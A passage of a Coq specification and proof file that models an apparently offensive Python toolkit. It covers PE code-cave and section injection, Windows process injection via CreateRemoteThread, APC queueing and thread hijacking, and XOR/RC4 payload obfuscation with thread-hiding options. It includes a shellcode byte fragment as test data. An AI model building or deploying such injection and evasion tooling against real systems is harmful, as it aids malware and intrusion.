(** ** Unloading a plugin (plugins/plugin_manager.py) *)

(** [msg] contains [name] as a substring. *)
Definition mentions (msg name : string) : Prop :=
  exists before after, msg = before +:+ name +:+ after.

(** The registry after a completed unload of [A]. *)
Definition without (A : string) (pm : PluginManager) : PluginManager :=
  MkPluginManager (dict_del A (plugins pm)) (dict_del A (metadata_cache pm))
                  (dict_del A (file_watchers pm)) (disabled_plugins pm).

(** A [cleanup] that returns, and one that raises. *)
Definition quiet_cleanup : PyVal -> Runtime -> PyVal * Runtime * outcome unit :=
  λ self rt, (self, rt, Returned tt).
Definition failing_cleanup : PyVal -> Runtime -> PyVal * Runtime * outcome unit :=
  λ self rt, (self, rt, Raised (MkExc (OtherException "RuntimeError") "device busy" [])).

Definition metadata_of (name : string) (deps : pydict PyVal) : PluginMetadata :=
  MkMetadata name "1.0.0" "" (PyStr "Unknown") deps (PyStr "1.0.0")
             (PyInt 100) (PyBool true).

Definition plugin_of (md : PluginMetadata)
    (cleanup : PyVal -> Runtime -> PyVal * Runtime * outcome unit) : Plugin :=
  MkPlugin (Some md) true PyNone cleanup.

(** Plugin [B] lists [A] among its dependencies; both are loaded. *)
Definition two_plugins : PluginManager :=
  let mdA := metadata_of "A" [] in
  let mdB := metadata_of "B" [("A", PyStr "1.0.0")] in
  MkPluginManager
    [("A", plugin_of mdA quiet_cleanup); ("B", plugin_of mdB quiet_cleanup)]
    [("A", mdA); ("B", mdB)]
    [("A", 0); ("B", 0)]
    [].

(** Plugin [A] alone, with a [cleanup] that raises. *)
Definition stubborn_plugin : PluginManager :=
  let mdA := metadata_of "A" [] in
  MkPluginManager [("A", plugin_of mdA failing_cleanup)] [("A", mdA)] [("A", 0)] [].

(** ** Configuration migration and validation (config/config_manager.py) *)

(** The file written by a successful save: the configuration with the
    current version stamped on it. *)
Definition saved (items : list (string * PyVal)) : SettingsFile :=
  Json (PyDict (dict_set "_version" (PyStr version) items)).

(** The exception with which the writing of [value] fails on [disk], if it
    fails. *)
Definition write_failure (disk : Disk) (value : PyVal) : option PyExc :=
  match makedirs disk, open_w disk, dump disk value with
  | Raised e, _, _ => Some e
  | _, Raised e, _ => Some e
  | _, _, Raised e => Some e
  | _, _, _ => None
  end.

(** What [save_config] writes for the configuration [items]. *)
Definition to_save (items : list (string * PyVal)) : PyVal :=
  PyDict (dict_set "_version" (PyStr version) items).

(** A disk on which every write succeeds, and one with no room left: the
    file opens, the write fails, and what is left is an empty file. *)
Definition empty_file_error : PyExc :=
  raise_exc (OtherException "JSONDecodeError")
    "Expecting value: line 1 column 1 (char 0)".

Definition good_disk : Disk :=
  MkDisk (Returned tt) (Returned tt) (λ _, Returned tt) empty_file_error.

Definition full_disk : Disk :=
  MkDisk (Returned tt) (Returned tt)
    (λ _, Raised (raise_exc OSError "[Errno 28] No space left on device"))
    empty_file_error.

(** A file of version 0.9.0 with two keys of the default schema ([ui],
    [plugins]) and two other keys. *)
Definition stale_file : list (string * PyVal) :=
  [ ("_version", PyStr "0.9.0");
    ("ui", PyDict [
       ("theme", PyStr "light");
       ("language", PyStr "en_US");
       ("window_size", PyDict [("width", PyInt 800); ("height", PyInt 600)])]);
    ("legacy", PyInt 1);
    ("plugins", PyDict [
       ("enabled", PyList [PyStr "scanner"]);
       ("auto_update", PyBool false)]);
    ("_private", PyStr "x") ].

Definition stale_migrated : list (string * PyVal) :=
  [ ("ui", PyDict [
       ("theme", PyStr "light");
       ("language", PyStr "en_US");
       ("window_size", PyDict [("width", PyInt 800); ("height", PyInt 600)])]);
    ("injection", PyDict [
       ("default_method", PyStr "new_section");
       ("encryption_type", PyStr "xor");
       ("obfuscation_level", PyStr "medium")]);
    ("process", PyDict [
       ("refresh_interval", PyInt 5);
       ("show_system_processes", PyBool false)]);
    ("security", PyDict [
       ("backup_files", PyBool true);
       ("verify_signatures", PyBool true);
       ("log_operations", PyBool true)]);
    ("plugins", PyDict [
       ("enabled", PyList [PyStr "scanner"]);
       ("auto_update", PyBool false)]) ].

(** A stale file whose [ui] entry is not a section. *)
Definition broken_file : list (string * PyVal) :=
  [ ("_version", PyStr "0.9.0"); ("ui", PyStr "compact") ].

(** The checks [_validate_dict] runs on a present key. *)
Definition check_present (key : string) (value_schema value : PyVal)
    : outcome unit :=
  match value_schema with
  | PyDict vs =>
      match dict_get "type" vs with
      | Some t => Config._validate_type value t key
      | None => Returned tt
      end;;
      match dict_get "values" vs with
      | Some vals => Config._validate_values value vals key
      | None => Returned tt
      end;;
      match dict_get "schema" vs with
      | Some sub => _validate_dict value sub
      | None => Returned tt
      end
  | _ => Config._validate_type value value_schema key
  end.

(** ... and on a missing one. *)
Definition check_missing (key : string) (value_schema : PyVal) : outcome unit :=
  match value_schema with
  | PyDict vs =>
      if truthy (default (PyBool true) (dict_get "required" vs))
      then Raised (raise_exc ValidationError ("缺少必需的配置项: " +:+ key))
      else Returned tt
  | _ => Returned tt
  end.

(** [c[k1]...[kn] = v] on nested dictionaries, when the path exists. *)
Fixpoint set_path (path : list string) (v : PyVal) (c : PyVal) : option PyVal :=
  match path, c with
  | [k], PyDict d => Some (PyDict (dict_set k v d))
  | k :: path', PyDict d =>
      sub ← dict_get k d;
      sub' ← set_path path' v sub;
      Some (PyDict (dict_set k sub' d))
  | _, _ => None
  end.

(** The defaults with a boolean for the window width and a theme that the
    schema does not list. *)
Definition bool_width_blue_theme : PyVal :=
  PyDict (dict_set "ui"
    (PyDict [("theme", PyStr "blue"); ("language", PyStr "zh_CN");
             ("window_size",
              PyDict [("width", PyBool true); ("height", PyInt 800)])])
    default_items).

(** The keys the configuration schema declares with type ["int"]. *)
Definition int_keys : list (list string) :=
  [ ["ui"; "window_size"; "width"];
    ["ui"; "window_size"; "height"];
    ["process"; "refresh_interval"] ].

(** ** RC4 against the reference (tools/obfuscator.py) *)

(** The list [sbox] holds the permutation [f] of [0..255]. *)
Definition holds (sbox : list Z) (f : perm) : Prop :=
  length sbox = 256%nat /\
  forall i, 0 <= i < 256 -> sbox !! Z.to_nat i = Some (f i) /\ byte (f i).

(** The keystream byte the generator yields in round [n] from a scheduled
    permutation. *)
Definition stream_byte (f0 : perm) (n : nat) : Z :=
  let '(f, i, j) := generator f0 (S n) in f ((f i + f j) mod 256).

(** ** Code caves (tools/pe_injector.py) *)

(** [size] filler bytes ([0x00] or [0xCC]) in a row, starting at offset [p]. *)
Definition filler_run (data : list Z) (size p : Z) : Prop :=
  0 <= p /\ p + size <= len data /\
  forall q, p <= q < p + size -> is_cave_byte (data !!! Z.to_nat q) = true.

(** What [_find_code_cave] answers: the first executable section with a
    filler run of [size] bytes, the first such run in it, [size] as length. *)
Definition first_cave (secs : list SectionHeader) (size : Z)
    (r : option (Z * Z)) : Prop :=
  match r with
  | Some (va, n) =>
      exists before section after p,
        secs = before ++ section :: after /\
        executable section = true /\
        va = VirtualAddress section + p /\ n = size /\
        filler_run (get_data section) size p /\
        (forall p', p' < p -> ~ filler_run (get_data section) size p') /\
        (forall s, s ∈ before -> executable s = true ->
           forall p', ~ filler_run (get_data s) size p')
  | None =>
      forall s, s ∈ secs -> executable s = true ->
        forall p, ~ filler_run (get_data s) size p
  end.

(** An executable section whose raw bytes are [pre], forty zero bytes, [post]. *)
Definition forty_zeros (va : Z) (pre post : list Z) : SectionHeader :=
  MkSection [46; 116; 101; 120; 116; 0; 0; 0] 0x60000020 va
            (len (pre ++ replicate 40 0 ++ post))
            (len (pre ++ replicate 40 0 ++ post)) 0x400
            (pre ++ replicate 40 0 ++ post).

Definition plain (b : Z) : Prop := is_cave_byte b = false.

(** ** The process handle (tools/process_injector.py) *)

Definition is_open_process (ev : Event) : Prop :=
  match fst ev with OpenProcess _ _ _ => True | _ => False end.

(** [m] only adds system calls to the trace, none of them [OpenProcess]. *)
Definition adds_calls {A} (m : M A) : Prop :=
  forall s, exists ext,
    trace (fst (m s)) = trace s ++ ext /\ Forall (λ ev, ~ is_open_process ev) ext.

(** The system calls [inject_body] adds to the trace: none; or a failed
    [OpenProcess] alone; or [OpenProcess] giving a handle, the calls of the
    injection, and [CloseHandle] on that handle last. *)
Inductive handle_discipline (pid : Z) : Trace -> Prop :=
| not_opened : handle_discipline pid []
| open_failed (res : outcome Z) :
    (res = Returned 0 \/ exists e, res = Raised e) ->
    handle_discipline pid [(OpenProcess PROCESS_ALL_ACCESS false pid, res)]
| opened_and_closed (h : Z) (mid : Trace) (closed : outcome Z) :
    h <> 0 ->
    Forall (λ ev, ~ is_open_process ev) mid ->
    handle_discipline pid
      ([(OpenProcess PROCESS_ALL_ACCESS false pid, Returned h)] ++ mid ++
       [(CloseHandle h, closed)]).

(** A process that opens with handle [0x1A4]; the second environment refuses
    the allocation in the target. *)
Definition friendly_kernel (tr : Trace) (c : Kernel32) : outcome Z :=
  match c with
  | OpenProcess _ _ _ => Returned 0x1A4
  | VirtualAllocEx _ _ _ _ _ => Returned 0x7FF00000
  | _ => Returned 1
  end.

Definition stingy_kernel (tr : Trace) (c : Kernel32) : outcome Z :=
  match c with
  | OpenProcess _ _ _ => Returned 0x1A4
  | VirtualAllocEx _ _ _ _ _ => Returned 0
  | _ => Returned 1
  end.

Definition world (kernel : Trace -> Kernel32 -> outcome Z) : Env :=
  MkEnv (λ _, true) (λ _, Returned true) (λ _, Returned [0x90; 0xC3])
        (λ _ _, Returned [7]) kernel (λ _, 0).

Definition injector_config : PyVal :=
  PyDict [
    ("injection", PyDict [("method", PyStr "classic"); ("encryption", PyStr "xor")]);
    ("process", PyDict [("filter_system", PyBool true); ("target_arch", PyStr "any")]);
    ("protection", PyDict [("hide_thread", PyBool true);
                           ("clear_header", PyBool true);
                           ("protect_memory", PyBool true)])].

Definition idle : State := MkState [] ToolBase.ProgressInfo_init Runtime_init.

(** ** Error statistics (utils/error_handler.py) *)

(** The handler's state after a series of calls of [handle_error], each with
    its exception and context. *)
Definition handle_all (errors : list (PyExc * option string)) (rt : Runtime)
    : Runtime :=
  fold_left (λ rt ec, (handle_error ec.1 ec.2 rt).1) errors rt.

(** The exceptions of the series that are instances of [BedToolsError]. *)
Definition toolkit_errors (errors : list (PyExc * option string)) : list PyExc :=
  List.filter (λ e, is_BedToolsError (exc_class e)) (map fst errors).

(** How many of [errors] carry [k] in the given attribute. *)
Definition tally (attribute : ExcClass -> string) (k : string)
    (errors : list PyExc) : Z :=
  len (List.filter (λ e, String.eqb (attribute (exc_class e)) k) errors).

(** The log line that announces a recovery. *)
Definition recovery_line (e : PyExc) : LogEntry :=
  LogOperation "error_recovery" true
    (Some ("成功恢复错误: " +:+ error_code (exc_class e))).

(** The error codes a recovery handler is registered for. *)
Definition has_recovery_handler (e : PyExc) : bool :=
  String.eqb (error_code (exc_class e)) "ERR_VALIDATION"
  || String.eqb (error_code (exc_class e)) "ERR_PLUGIN".

(** Four handled exceptions: an Operation error, a built-in exception, an
    instance of the base class built with the code of the Validation errors,
    and a Plugin error that names no plugin. *)
Definition four_errors : list (PyExc * option string) :=
  [ (raise_exc OperationError "注入失败", Some "inject");
    (raise_exc KeyError "'method'", Some "inject");
    (raise_exc (BedToolsError "ERR_VALIDATION" "INFO" "UI") "字段为空", None);
    (raise_exc PluginError "插件 A 未加载", Some "get_plugin") ].

(** ** Encoders (tools/obfuscator.py) *)

(** The two bytes the custom encoding issues for [b], and the reading back
    of an encoded stream. *)
Definition nibbles (b : Z) : list Z :=
  [Z.lor (Z.land (Z.shiftr b 4) 0xF) 0x40; Z.lor (Z.land b 0xF) 0x40].

Fixpoint custom_decode (encoded : list Z) : list Z :=
  match encoded with
  | high :: low :: rest =>
      (16 * Z.land high 0xF + Z.land low 0xF) :: custom_decode rest
  | _ => []
  end.

(** ** Listeners (config/config_manager.py) *)

(** A registration or a removal, and its effect on the manager. *)
Inductive ListenerOp : Type :=
| Register (listener : Z)
| Unregister (listener : Z).

Definition listener_step (m : ConfigAccess.Manager) (op : ListenerOp)
    : ConfigAccess.Manager :=
  match op with
  | Register listener => ConfigAccess.add_listener listener m
  | Unregister listener => ConfigAccess.remove_listener listener m
  end.

(** ** The life cycle of a tool (core/tool_base.py) *)

(** The calls a user of a tool can make, and their effect. *)
Inductive ToolOp : Type :=
| DoInitialize (config : PyVal)
| DoExecute (now : Z) (args : list PyVal) (kwargs : pydict PyVal)
| DoCleanup
| DoPause
| DoResume
| DoReset.

Definition tool_step (impl : ToolLifecycle.ToolImpl)
    (import : string -> ToolLifecycle.Import)
    (st : Tool * Runtime) (op : ToolOp) : Tool * Runtime :=
  let '(t, rt) := st in
  match op with
  | DoInitialize config =>
      let '(t', rt', _, _) := ToolLifecycle.initialize impl import config t rt [] in
      (t', rt')
  | DoExecute now args kwargs =>
      let '(t', rt', _, _) :=
        execute (ToolLifecycle.cls impl) now args kwargs t rt [] in
      (t', rt')
  | DoCleanup =>
      let '(t', rt', _) := ToolLifecycle.cleanup impl t rt in (t', rt')
  | DoPause => (ToolLifecycle.pause t, rt)
  | DoResume => (ToolLifecycle.resume t, rt)
  | DoReset => (ToolLifecycle.reset t, rt)
  end.

(** The statuses a tool rests in between two calls. *)
Definition settled (s : ToolStatus) : Prop :=
  s = UNINITIALIZED \/ s = READY \/ s = ERROR \/ s = CLEANED.

(** The tool as [execute] hands it to [_execute]: running, the clock
    started. *)
Definition handed_over (now : Z) (t : Tool) : Tool :=
  set_progress (ProgressInfo_start now (ToolBase.progress (set_status RUNNING t)))
               (set_status RUNNING t).

(** The three tools, each with the body of its decorated method. *)
Definition obfuscator_tool
    (obfuscate_body : PyVal -> PyVal -> Tool -> Runtime ->
                      Tool * Runtime * outcome PyVal) : ToolClass :=
  MkToolClass "Code Obfuscator"
    (ObfuscatorPasses._execute
       (λ input_file output_file,
          ErrorReporting.decorated "obfuscate"
            (obfuscate_body input_file output_file))).

Definition pe_injector_tool
    (inject_body : PyVal -> PyVal -> PyVal -> Tool -> Runtime ->
                   Tool * Runtime * outcome PyVal) : ToolClass :=
  MkToolClass "PE Injector"
    (PELayout._execute
       (λ pe_file shellcode_file output_file,
          ErrorReporting.decorated "inject"
            (inject_body pe_file shellcode_file output_file))).

Definition process_injector_tool (parse : string -> outcome Z)
    (inject_body : Z -> PyVal -> Tool -> Runtime ->
                   Tool * Runtime * outcome PyVal) : ToolClass :=
  MkToolClass "Process Injector"
    (ProcessTool._execute parse
       (λ pid shellcode_file,
          ErrorReporting.decorated "inject" (inject_body pid shellcode_file))).

(** What the caller of a decorated method gets for the outcome [r] of its
    body. *)
Definition reported (r : outcome PyVal) (v : PyVal) : Prop :=
  match r with
  | Returned a => v = a
  | Raised e =>
      py_getitem v "status" = Returned (PyStr "error") /\
      py_getitem v "message" = Returned (PyStr (exc_msg e))
  end.

(** ** Reloading a plugin (plugins/plugin_manager.py) *)

(** A loader that registers nothing and reports success. *)
Definition idle_loader : PluginReload.Loader :=
  λ plugin_name pm rt cleanups, (pm, rt, cleanups, Returned (PyBool true)).

(** ** Junk instructions (tools/obfuscator.py) *)

(** The number of draws [_add_junk_code] makes on [n] bytes: one for each
    index divisible by five. *)
Definition junk_draws (n : Z) : Z := (n + 4) / 5.

(** ** Writing the obfuscated file (tools/obfuscator.py) *)

(** [m] writes no file. *)
Definition quiet {A} (m : ObfuscatorPasses.M A) : Prop :=
  forall s, ObfuscatorPasses.written (m s).1 = ObfuscatorPasses.written s.

(** A world where every file exists and holds the two bytes [MZ], draws that
    always come out the same, and a configuration that asks for a PE target. *)
Definition mz_world : ObfuscatorPasses.Env :=
  ObfuscatorPasses.MkEnv (λ _, true) (λ _, Returned [0x4D; 0x5A])
    (λ _ _, Returned tt) (λ _ _, None) (λ _, 0) id id.

Definition fixed_draws : ObfuscatorPasses.Draws :=
  ObfuscatorPasses.MkDraws (λ _, ObfuscatorPasses.NOP) 5 id 0x55
    [1; 2; 3; 4] (seqZ 1 16).

Definition pe_target : PyVal :=
  PyDict [("obfuscation", PyDict [("level", PyStr "advanced");
                                  ("target_type", PyStr "pe")])].

Definition at_rest : ObfuscatorPasses.State :=
  ObfuscatorPasses.MkState ProgressInfo_init Runtime_init O [].

(** ** Section injection (tools/pe_injector.py) *)

(** An image with one executable section of sixteen raw bytes, four of them
    in use, and a configuration that keeps the entry point reachable. *)
Definition roomy_section : PELayout.Section :=
  PELayout.MkSection PELayout.text_name 4 0x1000 16 8 0x60000020.

Definition roomy_image : PELayout.Image :=
  PELayout.MkImage 1 0x1000 8 0x2000 0x1000 [roomy_section] (replicate 32 0x90).

Definition keep_entry : PyVal :=
  PyDict [("injection", PyDict [("method", PyStr "existing_section");
                                ("preserve_entry", PyBool true)])].

Definition tiny_shellcode : list Z := [0xCC; 0xC3].

(** An image with two executable sections: the first is full, the second
    has twelve raw bytes to spare. *)
Definition full_section : PELayout.Section :=
  PELayout.MkSection PELayout.text_name 8 0x1000 8 8 0x60000020.

Definition spare_section : PELayout.Section :=
  PELayout.MkSection PELayout.text_name 4 0x2000 16 16 0x60000020.

Definition two_section_image : PELayout.Image :=
  PELayout.MkImage 2 0x1000 8 0x3000 0x1000 [full_section; spare_section]
    (replicate 40 0x90).

(** [r] is the first multiple of [a] at or above [x]. *)
Definition aligned_after (a x r : Z) : Prop :=
  r mod a = 0 /\ x <= r < x + a.

(** A configuration without the injection settings. *)
Definition no_settings : PyVal := PyDict [].

(** ** The footprint of a code-cave injection (tools/pe_injector.py) *)

(** An image whose one section, executable, is twelve zero bytes stored at
    file offset 4, and the parser's mapping of its addresses to the file. *)
Definition hollow_section : SectionHeader :=
  MkSection [46; 116; 101; 120; 116; 0; 0; 0] 0x60000020 0x1000 12 12 4
            (replicate 12 0).

Definition hollow_image : PE :=
  MkPE [hollow_section] ([0x4D; 0x5A; 0x90; 0x00] ++ replicate 12 0 ++ [0xC3; 0x90])
       0x1000.

Definition hollow_offset (pe : PE) (rva : Z) : outcome Z :=
  Returned (rva - 0x1000 + 4).

(** ** Thread handles and the injection methods (tools/process_injector.py) *)

(** The thread handles a trace shows as opened, and the handles it shows as
    passed to [CloseHandle], in the order of the calls. *)
Definition opened_threads (tr : Trace) : list Z :=
  omap (λ ev : Event,
          match ev with
          | (OpenThread _ _ _, Returned h) => if h =? 0 then None else Some h
          | _ => None
          end) tr.

Definition closed_handles (tr : Trace) : list Z :=
  omap (λ ev : Event,
          match ev with (CloseHandle h, _) => Some h | _ => None end) tr.

(** The system call came back without raising. *)
Definition answered (ev : Event) : Prop := exists z, snd ev = Returned z.

(** The calls that take a thread handle or a thread id and nothing else. *)
Definition on_threads_only (ev : Event) : Prop :=
  match fst ev with
  | OpenThread _ _ _ | SuspendThread _ | GetThreadContext _
  | ResumeThread _ | CloseHandle _ => True
  | _ => False
  end.

(** A thread that did not open. *)
Definition missed (access : Z) (ev : Event) : Prop :=
  exists tid, ev = (OpenThread access false tid, Returned 0).

(** The calls that start code in the target. *)
Definition starts_code (ev : Event) : Prop :=
  match fst ev with
  | CreateRemoteThread _ _ | QueueUserAPC _ _ _ => True
  | _ => False
  end.

(** [self.config["injection"]["method"]] *)
Definition injection_method (config : PyVal) : outcome PyVal :=
  section ← py_getitem config "injection"; py_getitem section "method".

(** [self.config["injection"]["encryption"]] *)
Definition injection_encryption (config : PyVal) : outcome PyVal :=
  section ← py_getitem config "injection"; py_getitem section "encryption".

(** The bytes [inject] writes into the target: [_encrypt_shellcode] changes
    them for ["xor"] only. *)
Definition payload (encryption : PyVal) (shellcode : list Z) : list Z :=
  if py_eq encryption (PyStr "xor")
  then map (λ b, Z.lxor b 0xAA) shellcode else shellcode.

(** The methods [inject] implements. *)
Definition implemented_methods : list PyVal :=
  [PyStr "classic"; PyStr "apc"; PyStr "thread_hijack"].

(** The default configuration with another injection method. *)
Definition injector_config_with (method : string) : PyVal :=
  PyDict [
    ("injection", PyDict [("method", PyStr method); ("encryption", PyStr "xor")]);
    ("process", PyDict [("filter_system", PyBool true); ("target_arch", PyStr "any")]);
    ("protection", PyDict [("hide_thread", PyBool true);
                           ("clear_header", PyBool true);
                           ("protect_memory", PyBool true)])].

(** A kernel on which queueing an APC raises. *)
Definition apc_raising_kernel (tr : Trace) (c : Kernel32) : outcome Z :=
  match c with
  | QueueUserAPC _ _ _ => Raised (raise_exc OSError "exception: access violation")
  | other => friendly_kernel tr other
  end.

(** ** The control-flow pass (tools/obfuscator.py) *)

(** The data cut into consecutive blocks of [block_size] bytes, the last one
    possibly shorter. *)
Definition blocks_of (block_size : Z) (data : list Z) : list (list Z) :=
  map (λ k : nat,
         take (Z.to_nat block_size) (drop (Z.to_nat block_size * k) data))
      (seq 0 (Z.to_nat ((len data + block_size - 1) / block_size))).

(** The jump instruction placed before the block [next]: opcode [E9] and
    the length of [next] as a little-endian 32-bit operand. *)
Definition jump_before (next : list Z) : list Z := [0xE9; len next; 0; 0; 0].

(** The blocks in the given order, a jump between any two neighbours. *)
Fixpoint chained (blocks : list (list Z)) : list Z :=
  match blocks with
  | [] => []
  | block :: rest =>
      block ++ match rest with
               | [] => []
               | next :: _ => jump_before next
               end ++ chained rest
  end.

(** Twelve bytes of code, and a shuffle that exchanges the first two blocks. *)
Definition twelve_bytes : list Z :=
  [0x31; 0xC0; 0x50; 0x68; 0x2F; 0x2F; 0x73; 0x68; 0x89; 0xE3; 0xCD; 0x80].

Definition swap_first_two (blocks : list (list Z)) : list (list Z) :=
  match blocks with
  | a :: b :: rest => b :: a :: rest
  | _ => blocks
  end.

(* ===================================================================== *)
(** * Properties *)
(* ===================================================================== *)

(** ** Error history (utils/error_handler.py) *)

Lemma slice_from_neg {A} (k : Z) (l : list A) :
  0 < k -> slice_from (- k) l = drop (length l - Z.to_nat k) l.
Proof.
  intros Hk. unfold slice_from, clip.
  destruct (Z.ltb_spec (- k) 0); [|lia].
  f_equal. lia.
Qed.

Lemma slice_from_zero {A} (l : list A) : slice_from 0 l = l.
Proof. unfold slice_from, clip. simpl. by rewrite Z.min_l by lia. Qed.

(** C10: [get_recent_errors(limit)] returns the last [min(limit, n)] entries
    of a history of length [n] when [limit > 0], and the whole history (all
    [n] entries, not the empty list) when [limit = 0]. *)
Theorem get_recent_errors_last_or_all (st : ErrorStats) (limit : Z) :
  let history := error_history st in
  let recent := get_recent_errors st limit in
  (0 < limit ->
     (exists older, history = older ++ recent) /\
     len recent = Z.min limit (len history)) /\
  (limit = 0 -> recent = history /\ len recent = len history).
Proof.
  cbv zeta. unfold get_recent_errors, len. split.
  - intros Hpos. rewrite slice_from_neg by done. split.
    + eexists. symmetry. apply take_drop.
    + rewrite length_drop. lia.
  - intros ->. simpl. by rewrite slice_from_zero.
Qed.

Example get_recent_errors_of_three :
  map info_message (get_recent_errors three_errors 2) = ["second"; "third"] /\
  map info_message (get_recent_errors three_errors 5)
    = ["first"; "second"; "third"] /\
  map info_message (get_recent_errors three_errors 0)
    = ["first"; "second"; "third"].
Proof. repeat split. Qed.

(** The history is a rolling window: after [record_error] it holds one entry
    more, and never more than 1000. *)
Lemma record_error_rolling_history (error : PyExc) (st : ErrorStats) :
  len (error_history (record_error error st))
  = Z.min (len (error_history st) + 1) 1000 /\
  exists older,
    error_history st ++
      [MkErrorInfo (error_code (exc_class error)) (severity (exc_class error))
         (category (exc_class error)) (exc_msg error) (exc_details error)]
    = older ++ error_history (record_error error st).
Proof.
  unfold record_error. cbn [error_history]. unfold len.
  set (history := error_history st ++ [_]).
  assert (Hlen : length history = S (length (error_history st))).
  { unfold history. rewrite length_app. simpl. lia. }
  destruct (Z.ltb_spec 1000 (Z.of_nat (length history))) as [Hbig|Hsmall].
  - change (-1000) with (Z.opp 1000). rewrite slice_from_neg by lia. split.
    + rewrite length_drop. lia.
    + eexists. symmetry. apply take_drop.
  - split; [lia|]. by exists [].
Qed.

(** ** XOR transforms (tools/obfuscator.py) *)

Lemma is_byte_true b : byte b -> is_byte b = true.
Proof. unfold byte, is_byte. intros. apply andb_true_iff. lia. Qed.

Lemma lxor_byte a b : byte a -> byte b -> byte (Z.lxor a b).
Proof.
  unfold byte. intros Ha Hb. split.
  - apply Z.lxor_nonneg. lia.
  - change 256 with (2 ^ 8).
    destruct (Z.eq_dec (Z.lxor a b) 0) as [->|Hne]; [lia|].
    apply Z.log2_lt_pow2; [pose proof (Z.lxor_nonneg a b); lia|].
    eapply Z.le_lt_trans; [apply Z.log2_lxor; lia|].
    apply Z.max_lub_lt.
    + destruct (Z.eq_dec a 0) as [->|]; [simpl; lia|].
      apply Z.log2_lt_pow2; lia.
    + destruct (Z.eq_dec b 0) as [->|]; [simpl; lia|].
      apply Z.log2_lt_pow2; lia.
Qed.

Lemma bytes_of_ok (l : list Z) : Forall byte l -> bytes_of l = Returned l.
Proof.
  intros H. unfold bytes_of.
  replace (forallb is_byte l) with true; [done|].
  symmetry. apply forallb_forall. intros x Hx.
  apply is_byte_true. rewrite Forall_forall in H. apply H.
  by apply list_elem_of_In.
Qed.

Lemma lxor_twice (b k : Z) : Z.lxor (Z.lxor b k) k = b.
Proof. by rewrite Z.lxor_assoc, Z.lxor_nilpotent, Z.lxor_0_r. Qed.

Lemma seqZ_cons_len {A} (s : Z) (x : A) (l : list A) :
  seqZ s (len (x :: l)) = s :: seqZ (s + 1) (len l).
Proof.
  unfold len. rewrite seqZ_cons by (simpl; lia).
  f_equal. replace (Z.succ s) with (s + 1) by lia. f_equal. simpl. lia.
Qed.

Lemma list_getitem_ok {A} `{Inhabited A} (l : list A) (i : Z) :
  0 <= i < len l -> list_getitem l i = Returned (l !!! Z.to_nat i).
Proof.
  intros Hi. unfold list_getitem, index_of.
  destruct (Z.ltb_spec i 0); [lia|].
  replace ((0 <=? i) && (i <? len l)) with true
    by (symmetry; apply andb_true_iff; lia).
  simpl. destruct (lookup_lt_is_Some_2 l (Z.to_nat i)) as [x Hx].
  { unfold len in Hi. lia. }
  rewrite Hx. f_equal. symmetry. by apply list_lookup_total_correct.
Qed.

Lemma custom_xor_loop (key : list Z) (data : list Z) (s : Z) (acc : list Z) :
  (0 < length key)%nat -> Forall byte key -> Forall byte data -> 0 <= s ->
  foldM (custom_xor_step key) (zip (seqZ s (len data)) data) acc
  = Returned (acc ++ rolling key s data).
Proof.
  intros Hk Hkey. revert s acc.
  induction data as [|b data IH]; intros s acc Hdata Hs.
  - simpl. unfold rolling. simpl. by rewrite app_nil_r.
  - apply Forall_cons in Hdata as [Hb Hdata].
    unfold rolling. rewrite seqZ_cons_len. simpl.
    unfold py_mod. destruct (Z.eqb_spec (len key) 0); [unfold len in *; lia|].
    simpl.
    assert (Hm : 0 <= s mod len key < len key)
      by (apply Z.mod_pos_bound; unfold len; lia).
    rewrite list_getitem_ok by done. simpl.
    unfold bytearray_append.
    rewrite is_byte_true.
    2:{ apply lxor_byte; [done|].
        rewrite Forall_forall in Hkey. apply Hkey.
        apply list_elem_of_lookup_total_2. unfold len in *. lia. }
    simpl. rewrite IH by (done || lia).
    f_equal. unfold rolling. by rewrite <- app_assoc.
Qed.

Lemma rolling_byte (key : list Z) (s : Z) (data : list Z) :
  (0 < length key)%nat -> Forall byte key -> Forall byte data -> 0 <= s ->
  Forall byte (rolling key s data).
Proof.
  intros Hk Hkey. revert s. induction data as [|b data IH]; intros s Hdata Hs.
  - constructor.
  - apply Forall_cons in Hdata as [Hb Hdata].
    unfold rolling. rewrite seqZ_cons_len. simpl. constructor.
    + apply lxor_byte; [done|].
      rewrite Forall_forall in Hkey. apply Hkey.
      apply list_elem_of_lookup_total_2.
      pose proof (Z.mod_pos_bound s (len key)). unfold len in *. lia.
    + apply IH; [done|lia].
Qed.

Lemma rolling_length key s data : length (rolling key s data) = length data.
Proof.
  revert s. induction data as [|b data IH]; intros s; [done|].
  unfold rolling. rewrite seqZ_cons_len. simpl. f_equal. apply IH.
Qed.

Lemma rolling_twice key s data : rolling key s (rolling key s data) = data.
Proof.
  revert s. induction data as [|b data IH]; intros s; [done|].
  unfold rolling at 2. rewrite seqZ_cons_len. simpl.
  unfold rolling. rewrite seqZ_cons_len. simpl.
  rewrite lxor_twice. f_equal. apply IH.
Qed.

Lemma custom_xor_encrypt_ok key data rt :
  (0 < length key)%nat -> Forall byte key -> Forall byte data ->
  _custom_xor_encrypt key data rt = (rt, Returned (rolling key 0 data)).
Proof.
  intros. unfold _custom_xor_encrypt, enumerate.
  rewrite custom_xor_loop by (done || lia). simpl.
  rewrite bytes_of_ok; [done|]. apply rolling_byte; (done || lia).
Qed.

Lemma xor_encrypt_ok key data rt :
  byte key -> Forall byte data ->
  _xor_encrypt key data rt = (rt, Returned (map (λ b, Z.lxor b key) data)).
Proof.
  intros Hk Hd. unfold _xor_encrypt. rewrite bytes_of_ok; [done|].
  apply Forall_map. eapply Forall_impl; [exact Hd|].
  intros b Hb. by apply lxor_byte.
Qed.

(** C5: the single-byte XOR transform with a key byte in [1, 255] and the
    rolling XOR transform with a 4-byte key ([output[i] = input[i] XOR
    key[i mod 4]]) both return the original payload when applied twice with
    the same key. *)
Theorem xor_transforms_undo_themselves
    (key : Z) (key4 : list Z) (data : list Z) (rt : Runtime) :
  1 <= key <= 255 ->
  length key4 = 4%nat -> Forall byte key4 ->
  Forall byte data ->
  (exists enc,
      _xor_encrypt key data rt = (rt, Returned enc) /\
      enc = map (λ b, Z.lxor b key) data /\
      _xor_encrypt key enc rt = (rt, Returned data)) /\
  (exists enc,
      _custom_xor_encrypt key4 data rt = (rt, Returned enc) /\
      (forall (i : nat) b, data !! i = Some b ->
         enc !! i = Some (Z.lxor b (key4 !!! (i mod 4)%nat))) /\
      _custom_xor_encrypt key4 enc rt = (rt, Returned data)).
Proof.
  intros Hkey Hlen Hkey4 Hdata. split.
  - exists (map (λ b, Z.lxor b key) data).
    assert (byte key) by (unfold byte; lia).
    split; [by apply xor_encrypt_ok|]. split; [done|].
    rewrite xor_encrypt_ok; [|done|].
